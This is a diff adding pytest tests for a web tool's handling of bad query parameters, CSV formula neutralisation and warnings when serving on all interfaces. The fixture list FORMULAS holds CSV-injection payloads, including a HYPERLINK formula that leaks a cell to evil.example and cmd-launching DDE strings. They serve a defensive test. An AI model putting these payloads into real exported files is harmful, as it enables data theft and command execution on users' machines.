@@ -908,3 +908,88 @@ def test_web_server_answers_on_loopback(tmp_path: Path) -> None:
     finally:
         server.close()  # type: ignore[attr-defined]
         thread.join(timeout=10)
+
+
+# ---------------------------------------------------------------------------
+# attacks (issue 19, 9)
+
+
+@pytest.mark.issue(19)
+@pytest.mark.parametrize("query", ["page=²", "page=٣", "size=¹", "page=１", "page=" + "9" * 5000,
+                                   "page=%C2%B2", "size=" + "1" * 40])
+def test_web_non_ascii_or_huge_page_number_is_400(app: App, query: str) -> None:
+    for path in (f"/facts.json?{query}", f"/facts?{query}", f"/table/facts.json?{query}"):
+        r = call(app, path)
+        assert r.status == 400, (path, r.status)
+    assert "whole number" in call(app, f"/facts.json?{query}").json()["error"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.issue(19)
+def test_web_csv_neutralises_formulas(tmp_path: Path) -> None:
+    record = dataclasses.replace(make_record(), skipped=tuple(
+        Skipped(f"reports/{n}.txt", formula) for n, formula in enumerate(FORMULAS)))
+    app = _app_for(record, tmp_path)
+    r = call(app, "/table/skipped.csv")
+    assert r.status == 200
+    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
+    assert [row["reason"] for row in rows] == ["'" + f for f in FORMULAS]
+    for row in rows:
+        assert not row["reason"].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert call(app, "/table/skipped.json").json()["rows"][0]["reason"] == FORMULAS[0]  # verbatim
+
+
+@pytest.mark.issue(19)
+@pytest.mark.parametrize(("cell", "shown"), [
+    ("-3.5", "-3.5"), ("+2", "+2"), ("-1e5", "-1e5"), ("plain", "plain"), ("", ""),
+    ("-", "'-"), ("=1", "'=1"), ("@x", "'@x"), ("- bullet", "'- bullet"),
+])
+def test_web_csv_cell(cell: str, shown: str) -> None:
+    from corroborator.web.tables import csv_cell
+
+    assert csv_cell(cell) == shown
+
+
+@pytest.mark.issue(19)
+def test_web_serve_on_all_interfaces_warns_first(tmp_path: Path) -> None:
+    """``serve --host 0.0.0.0`` says what it exposes before it binds. The test keeps the
+    port taken on loopback, so the server never listens beyond this machine."""
+    import signal
+    import socket
+    import subprocess
+    import sys
+
+    write_record(make_record(), tmp_path / "record.sqlite")
+    exe = Path(sys.executable).with_name("corroborator")
+    with socket.socket() as holder:
+        holder.bind(("127.0.0.1", 0))
+        holder.listen()
+        port = holder.getsockname()[1]
+        done = subprocess.run([str(exe), "serve", str(tmp_path), "--host", "0.0.0.0", "--port",
+                               str(port)], capture_output=True, text=True, timeout=60,
+                              check=False)
+    assert done.returncode != 0 and done.returncode != -signal.SIGKILL
+    assert "warning: serving on every network interface" in done.stderr
+    assert "Host check" in done.stderr
+    quiet = subprocess.Popen([str(exe), "serve", str(tmp_path), "--port", "0"],
+                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        assert quiet.stdout is not None and "Serving" in quiet.stdout.readline()
+    finally:
+        quiet.terminate()
+        _, err = quiet.communicate(timeout=30)
+    assert "warning" not in err
+
+
+@pytest.mark.issue(19)
+def test_web_exposure_warning() -> None:
+    from corroborator.web.server import exposure_warning
+
+    assert exposure_warning("127.0.0.1") is None and exposure_warning("::1") is None
+    assert exposure_warning("localhost") is None
+    assert "every network interface" in (exposure_warning("0.0.0.0") or "")
+    assert "every network interface" in (exposure_warning("::") or "")
+    assert "192.168.1.5" in (exposure_warning("192.168.1.5") or "")
